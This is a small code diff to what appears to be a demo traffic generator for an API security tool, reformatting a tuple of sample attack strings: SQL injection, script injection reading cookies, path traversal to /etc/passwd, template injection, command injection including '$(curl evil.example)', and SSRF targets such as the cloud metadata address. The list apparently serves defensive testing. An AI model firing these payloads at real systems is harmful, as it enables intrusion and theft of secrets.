@@ -11,7 +11,8 @@ from apiward.demo.traffic.world import World
 _REQUESTS: Final = 1_200
 _TEXTS: Final = (
     "' OR 1=1 --", "1; DROP TABLE users; --", "<script>alert(document.cookie)</script>", "../../../../etc/passwd",
-    "{{7*7}}{{config.items()}}", "; cat /etc/passwd", "' UNION SELECT name, password FROM users --", "$(curl evil.example)",
+    "{{7*7}}{{config.items()}}", "; cat /etc/passwd", "' UNION SELECT name, password FROM users --",
+    "$(curl evil.example)",
 )  # fmt: skip
 _WITHIN: Final = ("http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:6379/", "http://10.0.0.5/admin")
 _STORM_S: Final = 900.0
